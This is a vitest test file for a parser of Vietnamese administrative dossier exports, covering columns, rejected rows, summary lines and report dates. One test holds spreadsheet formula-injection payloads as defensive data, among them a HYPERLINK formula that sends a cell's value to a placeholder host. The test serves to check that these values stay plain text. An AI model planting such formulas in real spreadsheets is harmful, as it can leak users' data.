/** Exports of dossiers as systems and desks lay them out. */
import { describe, expect, test } from "vitest";
import type { ImportedDossier, ImportedDossiers } from "../../../../domain/dossier-import.ts";
import { DEFAULT_ZONE } from "../../../../domain/time.ts";
import type { Table } from "../../../../jobs/import/reading/document.ts";
import { recogniseDossiers } from "../../../../jobs/import/recognising/dossiers/recognise-dossiers.ts";
import { documentOf, mergedTable, table } from "./given.ts";

function read(...parts: readonly (string | Table)[]): ImportedDossiers {
  const found = recogniseDossiers(documentOf(...parts), DEFAULT_ZONE);
  if (found === null) throw new Error("it should be an export");
  return found;
}

function readsNothing(...parts: readonly (string | Table)[]): boolean {
  return recogniseDossiers(documentOf(...parts), DEFAULT_ZONE) === null;
}

const HEADER = "STT | Mã hồ sơ | Thủ tục hành chính | Ngày tiếp nhận | Ngày hẹn trả | Trạng thái";
const birth = (code: string) =>
  `1 | ${code} | Đăng ký khai sinh | 20/02/2023 09:15 | 22/02/2023 | Đang xử lý`;

const codesOf = ({ dossiers }: ImportedDossiers) => dossiers.map(({ facts }) => facts.code);
const problemsOf = ({ rejected }: ImportedDossiers) =>
  rejected.map(({ row, problem }) => [row, problem.code]);

/** The only dossier of an export with further columns. */
function only(titles: string, cells: string): ImportedDossier {
  const found = read(
    table(
      `Mã hồ sơ | Ngày tiếp nhận | Ngày hẹn trả | ${titles}`,
      `A-1 | 20/02/2023 | 24/02/2023 | ${cells}`,
    ),
  );
  expect(found.rejected).toEqual([]);
  const [dossier] = found.dossiers;
  if (!dossier) throw new Error("it should be taken");
  return dossier;
}

describe("a row", () => {
  test("is a dossier with everything that its columns say", () => {
    const found = read(
      table(
        "Mã hồ sơ | Tên TTHC | Lĩnh vực | Chủ hồ sơ | SĐT | Địa chỉ | Ngày tiếp nhận | Ngày hẹn trả | Thời hạn giải quyết | Ngày kết thúc xử lý | Ngày trả kết quả | Đơn vị xử lý | Trạng thái | Số lần bổ sung | Ngày yêu cầu bổ sung | Ngày bổ sung | Số ngày tạm dừng | Hình thức nộp | Thanh toán trực tuyến | Số hóa | Số lần hẹn lại",
        "H49-230220-0012 | Đăng ký khai sinh | Hộ tịch | Nguyễn Văn An | 905123456 | thôn 1 | 20/02/2023 15:30 | 22/02/2023 16:30 | 02 ngày làm việc | 22/02/2023 10:00 | 23/02/2023 | UBND xã A | Đã trả kết quả | 1 | 21/02/2023 | 21/02/2023 14:00 | 1 | Trực tuyến | Không | x | 1",
      ),
    );
    expect(found).toEqual({
      dossiers: [
        {
          row: 2,
          facts: {
            code: "H49-230220-0012",
            procedure: "Đăng ký khai sinh",
            field: "Hộ tịch",
            received: { on: "2023-02-20", at: "2023-02-20T08:30:00.000Z" },
            writtenDue: { on: "2023-02-22", at: "2023-02-22T09:30:00.000Z" },
            limit: { kind: "days", count: 2 },
            status: 10,
            supplements: {
              count: 1,
              asked: { on: "2023-02-21", at: null },
              given: { on: "2023-02-21", at: "2023-02-21T07:00:00.000Z" },
            },
            pausedDays: 1,
            finished: { on: "2023-02-22", at: "2023-02-22T03:00:00.000Z" },
            returned: { on: "2023-02-23", at: null },
            isOnline: true,
            isPaidOnline: false,
            isDigitised: true,
            reappointments: 1,
          },
          unit: "UBND xã A",
          // A spreadsheet takes a telephone for a number.
          applicant: { name: "Nguyễn Văn An", phone: "0905123456", address: "thôn 1" },
        },
      ],
      rejected: [],
      asOf: null,
      columns: ["unit", "field", "online", "paid-online", "digitised", "applicant"],
    });
  });

  test("of a small desk says little, and nothing is made up", () => {
    const found = read(table("Số hồ sơ | Ngày nhận | Thời hạn giải quyết", "12 | 20/02/2023 | 3"));
    expect(found.columns).toEqual([]);
    expect(found.dossiers).toMatchObject([
      {
        facts: {
          code: "12",
          procedure: "",
          field: "",
          writtenDue: null,
          limit: { kind: "days", count: 3 },
          status: 4,
          supplements: { count: 0, asked: null, given: null },
          isOnline: null,
          isPaidOnline: null,
          isDigitised: null,
        },
        unit: "",
        applicant: { name: null, phone: null, address: null },
      },
    ]);
  });

  test("without a status has the one that follows from its dates", () => {
    const titles = "Ngày kết thúc xử lý | Ngày trả kết quả";
    expect(only(titles, "- | -").facts.status).toBe(4);
    expect(only(titles, "23/02/2023 | ").facts.status).toBe(9);
    expect(only(titles, "23/02/2023 | 24/02/2023").facts.status).toBe(10);
    expect(only(`${titles} | Tình trạng`, "23/02/2023 | | Trễ hạn").facts.status).toBe(9);
    expect(only(`${titles} | Tình trạng`, "| | Quá hạn").facts.status).toBe(4);
  });

  test("may have its date where others have the time limit", () => {
    const found = read(
      table("Mã hồ sơ | Ngày nhận | Thời hạn giải quyết", "A-1 | 20/02/2023 | 24/02/2023 16:00"),
    );
    expect(found.dossiers).toMatchObject([
      { facts: { limit: null, writtenDue: { at: "2023-02-24T09:00:00.000Z" } } },
    ]);
  });

  test("counts as many supplements as it names, and one when it waits for it", () => {
    const titles = "Trạng thái | Ngày yêu cầu bổ sung | Ngày bổ sung";
    expect(only(titles, "5 | | ").facts.supplements).toEqual({
      count: 1,
      asked: null,
      given: null,
    });
    expect(
      only(titles, "4 | 22/02/2023; 21/02/2023 08:00 | 21/02/2023, 23/02/2023").facts.supplements,
    ).toEqual({
      count: 2,
      asked: { on: "2023-02-21", at: "2023-02-21T01:00:00.000Z" },
      given: { on: "2023-02-23", at: null },
    });
  });

  test("is without what keeps a spreadsheet from taking a text for a number", () => {
    const found = read(
      table(
        "Mã hồ sơ | Ngày tiếp nhận | Hạn trả | SĐT",
        `="0012" | ="20/02/2023" | '22/02/2023 | '0905123456`,
      ),
    );
    expect(found.dossiers).toMatchObject([
      {
        facts: { code: "0012", received: { on: "2023-02-20" }, writtenDue: { on: "2023-02-22" } },
        applicant: { phone: "0905123456" },
      },
    ]);
  });

  test("stays text, whatever it would be in a spreadsheet", () => {
    const evil = '=HYPERLINK("http://x/?"&A1)';
    const { facts, unit, applicant } = only(
      "Thủ tục | Đơn vị xử lý | Người nộp",
      `${evil} | @SUM(1) | +1+cmd`,
    );
    expect([facts.procedure, unit, applicant.name]).toEqual([evil, "@SUM(1)", "+1+cmd"]);
  });
});

describe("a row is rejected, and the rest is taken,", () => {
  const rows = (...own: readonly string[]) =>
    read(table(HEADER, birth("A-1"), ...own, birth("A-2")));

  test.each([
    ["| | Khai sinh | 20/02/2023 | 22/02/2023 | Đang xử lý", { code: "no-code" }],
    ["2 | A-9 | Khai sinh | - | 22/02/2023 | Đang xử lý", { code: "no-received" }],
    ["2 | A-9 | Khai sinh | 20/02/2023 | | Đang xử lý", { code: "no-due" }],
    ["2 | A-9 | Khai sinh | 20/02/2023 | 22/02/2023 | Xanh", { code: "no-status", text: "Xanh" }],
    [
      "2 | A-9 | Khai sinh | 31/02/2023 | 22/02/2023 | Đang xử lý",
      { code: "bad-date", column: "Ngày tiếp nhận", text: "31/02/2023" },
    ],
    [
      "2 | A-9 | Khai sinh | 20/02/2023 | 22/02/2023 24:00 | Đang xử lý",
      { code: "bad-date", column: "Ngày hẹn trả", text: "22/02/2023 24:00" },
    ],
    ["2 | A-9 | Khai sinh | 23/02/2023 | 22/02/2023 | Đang xử lý", { code: "dates-contradict" }],
  ])("%s", (row, problem) => {
    const found = rows(row);
    expect(codesOf(found)).toEqual(["A-1", "A-2"]);
    const dossier = problem.code === "no-code" ? "" : "A-9";
    expect(found.rejected).toEqual([{ row: 3, dossier, problem }]);
  });

  test("when it ended before it began", () => {
    const found = read(table(`${HEADER} | Ngày kết thúc xử lý`, `${birth("A-1")} | 19/02/2023`));
    expect(problemsOf(found)).toEqual([[2, "dates-contradict"]]);
  });

  test("when there is nothing but its code", () => {
    const titles = "Mã hồ sơ | Ngày tiếp nhận | Hạn trả";
    const found = read(table(titles, "A-1 | | ", "A-2 | 20/02/2023 | 22/02/2023"));
    expect(codesOf(found)).toEqual(["A-2"]);
    expect(found.rejected).toEqual([{ row: 2, dossier: "A-1", problem: { code: "no-received" } }]);
  });

  // Incident: “A1” and “a1” of the same facts were one dossier and a rejected row.
  test("when its code came before with other facts, and not when it is the same again", () => {
    const found = rows(birth("a-1"), birth("A-1"), birth("A - 1").replace("22/02", "23/02"));
    expect(codesOf(found)).toEqual(["A-1", "A-2"]);
    expect(found.rejected).toEqual([
      { row: 5, dossier: "A - 1", problem: { code: "doubled", row: 2 } },
    ]);
  });
});

describe("the columns are found", () => {
  test("in any order, in capitals, decomposed, with notes", () => {
    const found = read(
      table(
        "TRẠNG THÁI | NGÀY HẸN TRẢ (dự kiến) | MÃ HỒ SƠ: | NGÀY TIẾP NHẬN".normalize("NFD"),
        "Đang xử lý | 22/02/2023 | A-1 | 20/02/2023",
      ),
    );
    expect(codesOf(found)).toEqual(["A-1"]);
  });

  test("by the title that says it best, where two would do", () => {
    const found = read(
      table(
        "Số phiếu | Mã hồ sơ | Ngày nộp | Ngày tiếp nhận | Hạn xử lý | Ngày hẹn trả",
        "7 | A-1 | 19/02/2023 | 20/02/2023 | 21/02/2023 | 22/02/2023",
      ),
    );
    expect(found.dossiers).toMatchObject([
      { facts: { code: "A-1", received: { on: "2023-02-20" }, writtenDue: { on: "2023-02-22" } } },
    ]);
  });

  test("in two rows of titles, merged or not", () => {
    const data = "1 | A-1 | Khai sinh | 20/02/2023 | 22/02/2023 | Đang xử lý";
    const plain = table(
      "STT | Mã hồ sơ | Thủ tục | Ngày | | Trạng thái",
      " | | | Tiếp nhận | Hẹn trả | ",
      data,
    );
    const merged = mergedTable(
      "STT | Mã hồ sơ | Thủ tục | Ngày | | Trạng thái",
      "^ | ^ | ^ | Tiếp nhận | Hẹn trả | ^",
      data,
    );
    for (const each of [plain, merged]) {
      expect(read(each).dossiers).toMatchObject([
        {
          row: 3,
          facts: { code: "A-1", received: { on: "2023-02-20" }, writtenDue: { on: "2023-02-22" } },
        },
      ]);
    }
  });

  test("again where the header is repeated, and in further sheets", () => {
    const other = "Mã hồ sơ | Ngày hẹn trả | Ngày nhận";
    const found = read(
      table(HEADER, birth("A-1"), HEADER, birth("A-2")),
      "DANH SÁCH TIẾP THEO",
      table(other, "B-1 | 22/02/2023 | 20/02/2023", other, "B-2 | 22/02/2023 | 20/02/2023"),
    );
    expect(codesOf(found)).toEqual(["A-1", "A-2", "B-1", "B-2"]);
    expect(found.rejected).toEqual([]);
  });
});

describe("rows that are no dossiers are passed over:", () => {
  const without = (...rows: readonly string[]) => {
    const found = read(table(HEADER, ...rows));
    expect(found.rejected).toEqual([]);
    return codesOf(found);
  };

  test("the numbers of the columns", () => {
    expect(without("(1) | (2) | (3) | (4) | (5) | (6)=(4)-(5)", birth("A-1"))).toEqual(["A-1"]);
    expect(without("A | B | 1 | 2 | 3 | 4", birth("A-1"))).toEqual(["A-1"]);
  });

  test("sums, blanks, and who signed", () => {
    expect(
      without(
        birth("A-1"),
        "| | | | | ",
        "Tổng cộng: | 1 hồ sơ | | | | ",
        "| NGƯỜI LẬP BIỂU | | | THỦ TRƯỞNG ĐƠN VỊ | ",
        "| Nguyễn Thị Lan | | | Trần Quốc Bảo | ",
      ),
    ).toEqual(["A-1"]);
  });

  test("what goes on from the dossier above", () => {
    const found = read(
      mergedTable(
        `${HEADER} | Ghi chú`,
        `${birth("A-1")} | tờ khai`,
        "^ | ^ | ^ | ^ | ^ | ^ | giấy chứng sinh",
        `${birth("A-2")} | `,
      ),
    );
    expect(codesOf(found)).toEqual(["A-1", "A-2"]);
    expect(found.rejected).toEqual([]);
  });

  test("a field or a unit alone, which those below it belong to", () => {
    const found = read(
      table(
        HEADER,
        "I. Lĩnh vực Hộ tịch (2 hồ sơ)",
        birth("A-1"),
        "1. Phòng Tư pháp",
        birth("A-2"),
        "II. Đất đai",
        birth("A-3"),
      ),
    );
    expect(found.dossiers.map(({ facts, unit }) => [facts.field, unit])).toEqual([
      ["Hộ tịch", ""],
      ["Hộ tịch", "Phòng Tư pháp"],
      ["Đất đai", "Phòng Tư pháp"],
    ]);
  });
});

describe("the day of which it is", () => {
  const asOf = (...lines: readonly string[]) => read(...lines, table(HEADER, birth("A-1"))).asOf;

  test.each([
    ["2023-02-20", "(Số liệu tính đến ngày 20/02/2023)"],
    ["2023-02-20", "Tính đến 08:00 ngày 20 tháng 02 năm 2023"],
    ["2023-02-21", "Ngày xuất: 21/02/2023 08:15"],
    ["2023-02-28", "Từ ngày 01/02/2023 đến ngày 28/02/2023"],
    ["2023-02-28", "Từ 01/02/2023 đến hết ngày 28/02/2023"],
    [null, "DANH SÁCH HỒ SƠ"],
    [null, "Tính đến ngày 31/02/2023"],
    [null, "Căn cứ Quyết định ngày 05/01/2023"],
  ])("is %s: “%s”", (day, line) => {
    expect(asOf("DANH SÁCH HỒ SƠ", line)).toBe(day);
  });

  test("is the one that is named as such rather than the end of a period", () => {
    expect(asOf("Từ ngày 01/02/2023 đến ngày 28/02/2023", "Ngày in: 21/02/2023")).toBe(
      "2023-02-21",
    );
  });

  test("is not the end of a period after which something in it happened", () => {
    expect(asOf("Từ ngày 01/02/2023 đến ngày 19/02/2023")).toBeNull();
  });

  test("may stand in the table's own rows above the titles", () => {
    const found = read(table("Tính đến ngày 21/02/2023 | x", HEADER, birth("A-1")));
    expect(found.asOf).toBe("2023-02-21");
  });
});

describe("what is no export", () => {
  test("counts dossiers", () => {
    const sums = table(
      "Lĩnh vực | Số hồ sơ | Tiếp nhận | Đã giải quyết | Tình trạng",
      "Hộ tịch | 12 | 3 | 9 | Tốt",
    );
    expect(readsNothing(sums)).toBe(true);
  });

  test("is a report that lists a few dossiers among much else", () => {
    const report = Array.from({ length: 40 }, (_, n) => `Đã thực hiện nội dung thứ ${n}.`);
    expect(readsNothing(...report, table(HEADER, birth("A-1")))).toBe(true);
    expect(readsNothing(...report.slice(0, 20), table(HEADER, birth("A-1")))).toBe(false);
  });

  test("is a plan with a list of dossiers in another sheet, but not an export with sums in one", () => {
    const others = (count: number) =>
      table("Đơn vị | Số lượng", ...Array.from({ length: count }, (_, n) => `Phòng ${n} | ${n}`));
    expect(readsNothing(others(150), table(HEADER, birth("A-1")))).toBe(true);
    expect(readsNothing(others(60), table(HEADER, birth("A-1")))).toBe(false);
  });

  test("has a header without codes, or nothing but codes", () => {
    expect(
      readsNothing(table("Thủ tục | Ngày nhận | Hạn trả", "a | 20/02/2023 | 22/02/2023")),
    ).toBe(true);
    expect(readsNothing(table("Mã hồ sơ | Thủ tục", "A-1 | Khai sinh"))).toBe(true);
  });

  test("but one without any dossier in it is one", () => {
    expect(read("Từ ngày 01/02/2023 đến ngày 19/02/2023", table(HEADER, "1 | | | | | "))).toEqual({
      dossiers: [],
      rejected: [],
      asOf: "2023-02-19",
      columns: [],
    });
  });
});
